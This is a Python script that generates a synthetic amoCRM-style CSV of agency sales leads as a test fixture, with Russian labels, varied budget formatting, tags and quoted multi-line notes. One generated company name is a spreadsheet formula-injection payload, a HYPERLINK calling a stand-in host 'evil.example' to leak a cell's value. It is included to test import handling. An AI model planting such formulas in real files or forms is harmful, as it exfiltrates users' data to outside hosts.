"""Builds an amoCRM-style leads export for the tests (deterministic: random.Random(11)):
``python3 make_export.py .``.

Its shape follows public descriptions of amoCRM: a lead ("сделка") has an ID, a name, a budget,
a responsible user, a pipeline ("воронка") and a stage ("этап"/status in it), tags and the
date-time it was created (the amoCRM API's lead fields: id, name, price, responsible_user_id,
pipeline_id, status_id, created_at; good.bi's and Renta's descriptions of amoCRM lead tables);
its import and export files are CSV with a comma, a semicolon or a tab (amoCRM's help desk,
"Import Settings"). What differs from the Bitrix24 sample on purpose:

- a comma delimiter, UTF-8 without a byte-order mark, and cells with quotes, commas and a line
  break inside a quoted cell (notes);
- English-free but different Russian labels: "Бюджет", "Этап", "Воронка", "Теги",
  "Дата создания сделки", "Дата последнего контакта", "Категория клиента";
- the budget as amoCRM shows money: ``150 000 ₽`` with a non-breaking space (U+00A0) or a
  narrow one (U+202F) between thousands;
- the created date as a date-time (``07.03.2026 14:32``), other dates as dd.mm.yyyy;
- the project type is the pipeline, the progress is the pipeline's stage (one stage, which a
  finished mapping turns into the list of steps done by then);
- services come as tags (with tags that are no service: ``VIP``, ``Тендер``);
- one KPI as a pair of columns, ``CPL план`` and ``CPL факт``;
- one company name written as a spreadsheet formula (what a hostile lead form could leave).
"""

import datetime as dt
import random
import sys
from pathlib import Path

R = random.Random(11)
OUT = Path(sys.argv[1] if len(sys.argv) > 1 else ".")
AS_OF = dt.date(2026, 12, 7)
PIPELINES = {  # the agency's pipelines: one per kind of project
    "Услуги для бизнеса": "lead_gen", "Интернет-магазины": "marketplace",
    "Бренды производителей": "monobrand", "Разработка сайтов": "web_development"}
STAGES = ["Первичный контакт", "Переговоры", "Принимают решение", "Согласование договора",
          "Оплачено", "В работе", "Реклама запущена", "Оптимизация"]
MANAGERS = ["Орлова Екатерина", "Волков Игорь", "Лебедева Наталья", "Соколов Артём"]
TAGS = ["SEO", "Контекст", "SERM", "Аналитика", "Ретаргетинг", "VIP", "Тендер"]
WORDS = ["Север", "Гранит", "Лайм", "Орбита", "Пульс", "Вега", "Кедр", "Мир", "Тепло",
         "Престиж", "Сфера", "Регион", "Лидер", "Союз", "Нова"]
HEADER = ["ID", "Название сделки", "Компания", "Бюджет", "Ответственный", "Воронка", "Этап",
          "Теги", "Дата создания сделки", "Дата редактирования", "Дата последнего контакта",
          "Дата запуска рекламы", "Темперамент", "Категория клиента", "NPS", "CPL план",
          "CPL факт", "Примечание"]


def d(day: dt.date) -> str:
    return day.strftime("%d.%m.%Y")


def rub(amount: int, space: str) -> str:
    return f"{amount:,}".replace(",", space) + " ₽"


def row(i: int) -> list[str]:
    pipeline = R.choice(list(PIPELINES))
    stage = R.choice(STAGES)
    launched = STAGES.index(stage) >= STAGES.index("Реклама запущена")
    company = f"{R.choice(['ООО', 'ИП', 'АО'])} «{R.choice(WORDS)} {R.choice(WORDS)}»"
    if i == 17:
        company = '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")'
    created = dt.datetime.combine(AS_OF - dt.timedelta(days=R.randint(30, 700)),
                                  dt.time(R.randint(8, 20), R.randint(0, 59)))
    edited = dt.datetime.combine(AS_OF - dt.timedelta(days=R.randint(0, 20)),
                                 dt.time(R.randint(8, 20), R.randint(0, 59)))
    budget = R.choice([0, 30000, 60000, 90000, 150000, 240000, 1200000])
    tags = R.sample(TAGS, R.randint(0, 3)) if STAGES.index(stage) >= 4 else []
    plan = fact = ""
    if launched and R.random() < 0.7:
        plan = str(R.choice([900, 1200, 2000]))
        fact = str(int(int(plan) * R.uniform(0.8, 1.45)))
    note = R.choice(["", "", "Просит отчёт, \"как в прошлый раз\"",
                     "Созвон перенесли,\nждём ответа ЛПР"])
    return [
        str(31_000_000 + i * 37), f"{pipeline}: {company}", company,
        rub(budget, R.choice(["\u00a0", "\u202f"])) if budget else "", R.choice(MANAGERS),
        pipeline, stage, ", ".join(tags), created.strftime("%d.%m.%Y %H:%M"),
        edited.strftime("%d.%m.%Y %H:%M"),
        d(AS_OF - dt.timedelta(days=R.randint(0, 90))),
        d(created.date() + dt.timedelta(days=R.randint(20, 60))) if launched else "",
        R.choice(["Холерик", "Сангвиник", "Меланхолик", "Флегматик", ""]),
        R.choice(["Ключевой", "Обычный", "Обычный", "Небольшой"]),
        R.choice(["", "", str(R.randint(0, 10))]), plan, fact, note,
    ]


def cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text


rows = [row(i) for i in range(120)]
text = "\r\n".join(",".join(cell(c) for c in r) for r in [HEADER, *rows]) + "\r\n"
(OUT / "amocrm_leads_2026-12-07.csv").write_text(text, encoding="utf-8", newline="")
